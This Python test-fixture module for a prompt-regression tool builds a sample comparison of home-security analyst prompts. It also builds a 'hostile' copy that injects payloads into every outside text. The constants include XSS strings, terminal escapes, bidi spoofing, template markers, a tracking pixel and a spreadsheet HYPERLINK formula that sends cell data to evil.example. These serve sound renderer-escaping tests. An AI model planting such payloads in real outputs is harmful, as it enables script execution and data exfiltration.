"""A comparison as a real one looks, and the same with hostile text from everywhere outside."""

from __future__ import annotations

import dataclasses
import enum
import random
from collections.abc import Mapping
from typing import Any

from promptreg.errors import ExitCode
from promptreg.records import Direction, Kind
from promptreg.verdicts import (
    Breakdown,
    BreakdownRow,
    Calibration,
    CalibrationState,
    Comparison,
    Counts,
    Curve,
    Difference,
    Gate,
    GateVerdict,
    Limit,
    Missing,
    Power,
    Ranking,
    Rate,
    ScenarioChange,
    Side,
    SideTrial,
    Slice,
    Verdict,
)

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "</script></style></textarea></title></svg><img src=x onerror=alert(2)>"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x00"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MENTION = "@team please merge, fixes #12, mail ops@evil.example www.evil.example"
BEACON = "![pixel](http://evil.example/pixel.png) [go](javascript:alert(3)) <http://evil.example>"
TABLE = "a | b\n| --- | --- |\n```\n~~~\n</details></summary>"
BIDI = "\u202egnp.exe\u2066\u200f"
SURROGATE = "half \ud83d pair \udc00"
TEMPLATE = "{{ 7*7 }} {% raw %} [bold red]markup[/bold red] [link=http://evil.example]x[/link]"
ATTRIBUTE = '" onmouseover="alert(4)" x=\'` \u2028\u2029\ufeff\uffff'
TRICKS = (SCRIPT, BREAKOUT, ESCAPES, FORMULA, MENTION, BEACON, TABLE, BIDI, SURROGATE, TEMPLATE)
HOSTILE = "\n".join((*TRICKS, ATTRIBUTE))
LONG = "The camera sees a person near the door. " * 5_000  # 200 KB

METRICS: tuple[tuple[str, Kind, str, Direction, float, float, float, float], ...] = (
    # name, kind, unit, direction, baseline, change, half width, margin
    ("overall", "bounded", "", "higher_is_better", 0.812, -0.011, 0.020, 0.05),
    ("in_range", "binary", "", "higher_is_better", 0.880, -0.070, 0.045, 0.05),
    ("deviation", "bounded", "points", "lower_is_better", 4.20, 1.10, 1.40, 3.0),
    ("key_points", "bounded", "", "higher_is_better", 0.741, -0.031, 0.042, 0.05),
    ("answered", "binary", "", "higher_is_better", 0.995, -0.030, 0.025, 0.05),
    ("false_alarm", "binary", "", "lower_is_better", 0.120, -0.055, 0.040, 0.05),
    ("relevance", "ordinal", "", "higher_is_better", 3.21, -0.02, 0.09, 0.25),
    ("latency", "count", "s", "lower_is_better", 3.41, 0.10, 0.17, 1.10),
    ("tokens", "count", "tokens", "lower_is_better", 412.0, 3.0, 9.0, 1.10),
)
VERDICTS = {
    "overall": Verdict.NO_WORSE,
    "in_range": Verdict.REGRESSED,
    "deviation": Verdict.EQUIVALENT,
    "key_points": Verdict.INCONCLUSIVE,
    "answered": Verdict.INCONCLUSIVE,
    "false_alarm": Verdict.IMPROVED,
    "relevance": Verdict.EQUIVALENT,
    "latency": Verdict.EQUIVALENT,
    "tokens": Verdict.EQUIVALENT,
}
SLICES = {
    "scenario_type": ("normal", "suspicious", "threat", "edge_case"),
    "enrichment_level": ("none", "basic", "full"),
    "story": ("delivery", "prowler", "family_return", "wildlife", "power_cut"),
}
RANGES = {"normal": (0, 25), "suspicious": (30, 55), "threat": (70, 100), "edge_case": (20, 60)}
SCENES = {
    "normal": "A parcel courier rings at 14:10 and leaves after placing a box by the door.",
    "suspicious": "An unknown adult walks along the fence twice and looks through the window.",
    "threat": "A person in a dark hood forces the side gate with a bar at 02:47.",
    "edge_case": "A raccoon triggers two motion zones while the porch light flickers.",
}


def _level(score: int) -> str:
    return ("low", "medium", "high", "critical")[min(3, score // 30)]


def difference(
    template: str,
    row: tuple[str, Kind, str, Direction, float, float, float, float],
    *,
    n: int = 200,
    where: Slice | None = None,
    shift: float = 0.0,
    verdict: Verdict | None = None,
    gating: bool | None = None,
) -> Difference:
    """Return one metric's difference with a plausible interval."""
    metric, kind, unit, direction, baseline, change, half, margin = row
    change += shift
    half *= (200 / n) ** 0.5
    ratio = None
    if metric in ("latency", "tokens"):
        ratio = (
            1 + change / baseline,
            1 + (change - half) / baseline,
            1 + (change + half) / baseline,
        )
    verdict = verdict or VERDICTS[metric]
    low, high = change - half, change + half
    return Difference(
        template=template,
        metric=metric,
        slice=where,
        kind=kind,
        unit=unit,
        direction=direction,
        n_scenarios=n,
        n_clusters=max(6, n // 5),
        repeats=3,
        baseline=baseline,
        candidate=baseline + change,
        difference=change,
        interval=(low, high),
        level=0.95,
        p_value=0.003 if verdict in (Verdict.REGRESSED, Verdict.IMPROVED) else 0.21,
        p_adjusted=None if where else (0.021 if verdict is Verdict.REGRESSED else 0.4),
        effect_size=("Cohen's d_z", change / half / 3),
        test="sign flips of families",
        margin=margin,
        verdict=verdict,
        gating=(where is None and metric not in ("tokens",)) if gating is None else gating,
        discordant=(19, 5) if kind == "binary" else None,
        detectable_difference=1.43 * half,
        missing=Missing(2, 7) if metric == "in_range" else Missing(0, 0),
        suspect=where is not None and verdict is Verdict.INCONCLUSIVE and change + half < 0,
        scenarios_needed=130 if verdict is Verdict.INCONCLUSIVE else None,
        ratio=ratio,
        rerun_se=half / 5,
        variance=(0.04, 0.01),
        notes=(),
    )


def _sliced(template: str, rng: random.Random) -> list[Difference]:
    found = []
    for attribute, values in SLICES.items():
        for value in values:
            for row in METRICS[:4]:
                hurt = value in ("threat", "prowler") and row[0] in ("in_range", "overall")
                shift = -0.12 if hurt else rng.uniform(-0.01, 0.03)
                verdict = Verdict.REGRESSED if hurt else Verdict.INCONCLUSIVE
                found.append(
                    difference(
                        template,
                        row,
                        n=200 // len(values),
                        where=Slice(attribute, value),
                        shift=shift * (10 if row[2] == "points" else 1),
                        verdict=verdict,
                    )
                )
    return found


def _trial(scenario_type: str, score: int | None, latency: float, failure: str = "") -> SideTrial:
    scene = SCENES[scenario_type]
    prompt = (
        "<|im_start|>system\nYou are a home-security analyst. Answer with JSON only.<|im_end|>\n"
        f"<|im_start|>user\nDetections: {scene}\nZone: front door. Rate the risk 0-100.<|im_end|>\n"
    )
    if failure or score is None:
        return SideTrial(prompt, "", "", {}, failure or "empty: no text", {"overall": 0.0}, latency)
    reasoning = (
        f"{scene} No resident is expected at this hour, and it does not look like a delivery; "
        f"the pattern supports a score of {score}."
    )
    answer = {
        "risk_score": score,
        "risk_level": _level(score),
        "summary": scene.split(".")[0],
        "reasoning": reasoning,
    }
    low, high = RANGES[scenario_type]
    scores = {"in_range": float(low <= score <= high), "overall": 1 - abs(score - low) / 200}
    return SideTrial(prompt, str(answer), "First, who is it?", answer, "", scores, latency)


def changes(template: str, rng: random.Random, n: int = 15) -> list[ScenarioChange]:
    """Return scenarios of one template, the worst first."""
    failures = (
        "timeout: no answer within 120 s",
        "unparseable: no JSON object in 512 characters",
        "refused: I can't help with that",
    )
    found = []
    for i in range(n):
        kind = tuple(SCENES)[i % 4]
        low, high = RANGES[kind]
        before = rng.randint(low, high)
        after = max(0, min(100, before + rng.choice((-35, -22, -9, 0, 0, 3, 12, 18))))
        failed = failures[i] if i < 3 else ""
        found.append(
            ScenarioChange(
                template=template,
                scenario_id=f"{kind}-{template}-{i:03d}",
                family=f"{SLICES['story'][i % 5]}-{i // 5}",
                attributes={
                    "scenario_type": kind,
                    "enrichment_level": SLICES["enrichment_level"][i % 3],
                    "story": SLICES["story"][i % 5],
                },
                ground_truth={"risk_range": [low, high], "key_points": ["person", "door"]},
                change=round(-0.9 + i * 1.1 / n, 3) if i != n - 1 else 0.21,
                baseline=_trial(kind, before, 3.1 + i / 10),
                candidate=_trial(kind, after, 3.3 + i / 10, failed),
            )
        )
    return found


BASIC_V1 = """You are a home-security analyst.
Camera: {camera}
Detections: {detections}

Rate the risk from 0 to 100.
Answer with JSON: risk_score, risk_level, summary, reasoning.
"""
BASIC_V2 = """You are a careful home-security analyst.
Camera: {camera}
Time: {time}
Detections: {detections}

Rate the risk from 0 to 100. Most events are normal: do not raise alarms lightly.
Answer with JSON: risk_score, risk_level, summary, reasoning.
"""


CALIBRATED = Calibration(
    CalibrationState.FRESH,
    created_at="2026-11-20T08:00:00Z",
    simulations=400,
    false_alarm=Rate(7, 400, (0.0071, 0.0357)),
    passed=Rate(344, 400, (0.822, 0.892)),
    power=(
        Power(
            "basic",
            "in_range",
            Slice("scenario_type", "threat"),
            1.0,
            Rate(64, 400, (0.126, 0.200)),
            Rate(6, 400, (0.0055, 0.0323)),
        ),
    ),
)
"""What `calibrate` found of such a gate."""


def make_comparison(
    *, verdict: GateVerdict = GateVerdict.FAIL, templates: tuple[str, ...] = ("basic", "enriched")
) -> Comparison:
    """Return a comparison as a run of the example suite would give."""
    rng = random.Random(7)
    rows: list[Difference] = []
    listed: list[ScenarioChange] = []
    for template in templates:
        rows += [difference(template, row, shift=0.0) for row in METRICS]
        rows.append(
            difference(
                template,
                METRICS[1],
                n=50,
                where=Slice("scenario_type", "threat"),
                shift=-0.05,
                verdict=Verdict.REGRESSED,
                gating=True,
            )
        )
        rows += _sliced(template, rng)
        listed += changes(template, rng)
    listed.sort(key=lambda c: c.change or 0.0)
    codes = {
        GateVerdict.FAIL: ExitCode.REGRESSION,
        GateVerdict.PASS: ExitCode.OK,
        GateVerdict.INCONCLUSIVE: ExitCode.INCONCLUSIVE,
    }
    reasons = {
        GateVerdict.FAIL: ("in_range regressed", "in_range (scenario_type=threat) regressed"),
        GateVerdict.PASS: ("overall is no worse",),
        GateVerdict.INCONCLUSIVE: ("overall is inconclusive: about 130 more scenarios are needed",),
    }
    prints = {"scenarios": "ab" * 32, "scorers": "cd" * 32, "model": "Nemotron-3-Nano-Q4"}
    return Comparison(
        suite="home_security",
        baseline=Side(
            "v1", dict.fromkeys(templates, "1a" * 32), {t: f"{t}-run-1" for t in templates}, prints
        ),
        candidate=Side(
            "v2", dict.fromkeys(templates, "2b" * 32), {t: f"{t}-run-2" for t in templates}, prints
        ),
        gate=Gate(verdict, reasons[verdict], codes[verdict]),
        differences=tuple(rows),
        limits=(
            Limit(
                templates[0],
                "in_range",
                None,
                "at_least",
                0.8,
                0.81,
                (0.75, 0.86),
                "not_shown",
                200,
            ),
            Limit(
                templates[0], "answered", None, "at_least", 0.98, 0.96, (0.93, 0.97), "not_met", 200
            ),
        ),
        counts=Counts(
            planned=1200 * len(templates),
            cached=600,
            called=600,
            failed={
                "baseline": {"timeout": 2, "unparseable": 1},
                "candidate": {
                    "timeout": 4,
                    "unparseable": 5,
                    "refused": 1,
                    "http_status": 2,
                    "network": 1,
                },
            },
            prompt_tokens=412_880,
            completion_tokens=98_120,
        ),
        cost=1.84,
        duration_s=1934.2,
        alpha=0.05,
        policy_sha256="9f" * 32,
        provider="llama_cpp at 127.0.0.1:8091, Nemotron-3-Nano",
        synthetic=False,
        created_at="2026-11-20T09:14:00Z",
        changes=tuple(listed),
        changes_total=200 * len(templates),
        rankings=(
            Ranking("overall", templates[0], "v1", 0.812, (0.79, 0.83), 1, 2),
            Ranking("overall", templates[0], "v2", 0.801, (0.78, 0.82), 1, 2),
        ),
        template_diffs=dict.fromkeys(templates, (BASIC_V1, BASIC_V2)),
        warnings=("the baseline is 23 days old; provider drift is not excluded",),
        complete_case={"in_range": -0.031, "overall": -0.004},
        calibration=CALIBRATED,
        breakdowns=tuple(
            Breakdown(
                name,
                "in_range",
                ("scenario_type", "enrichment_level"),
                (
                    BreakdownRow(("edge_case", "none"), 24, 1, 19),
                    BreakdownRow(("threat", "full"), 11, 9, 2),
                ),
            )
            for name in templates
        ),
        curves=(Curve(templates[0], "ece", ((0.1, 0.0, 40), (0.6, 0.5, 10)), ((0.9, 0.7, 50),)),),
    )


_KEPT = {"kind", "direction", "bound", "status", "schema_version"}
"""Fields whose texts come from a closed set of words."""


def poison(value: Any, text: str = HOSTILE) -> Any:
    """Return a copy with hostile text after every text that may come from outside."""
    if isinstance(value, enum.Enum):
        return value
    if isinstance(value, str):
        return value + text if value else value  # an empty failure means "answered"
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        names = [f.name for f in dataclasses.fields(value) if f.name not in _KEPT]
        return dataclasses.replace(value, **{n: poison(getattr(value, n), text) for n in names})
    if isinstance(value, Mapping):
        if {"baseline", "candidate"} >= set(value) and value:  # sides: the keys are ours
            return {k: poison(v, text) for k, v in value.items()}
        return {poison(k, text): poison(v, text) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(poison(v, text) for v in value)
    return value


def hostile_comparison() -> Comparison:
    """Return a comparison in which every outside text is hostile, and one answer is 200 KB."""
    made: Comparison = poison(make_comparison())
    first = made.changes[3]
    flooded = dataclasses.replace(
        first,
        candidate=dataclasses.replace(
            first.candidate,
            text=LONG,
            answer={
                "risk_score": float("nan"),
                "summary": FORMULA,
                "reasoning": LONG,
                "n": 10**5000,
                "deep": [[[[[[[["x"]]]]]]]],
                HOSTILE: HOSTILE,
            },
        ),
    )
    # A risk range that is one, else there is nothing to draw.
    plain = [
        dataclasses.replace(
            c,
            ground_truth={"risk_range": [10, 30], **c.ground_truth},
            baseline=dataclasses.replace(
                c.baseline, answer={"risk_score": 20, **c.baseline.answer}
            ),
        )
        for c in (*made.changes[:3], flooded, *made.changes[4:])
    ]
    return dataclasses.replace(made, changes=tuple(plain))
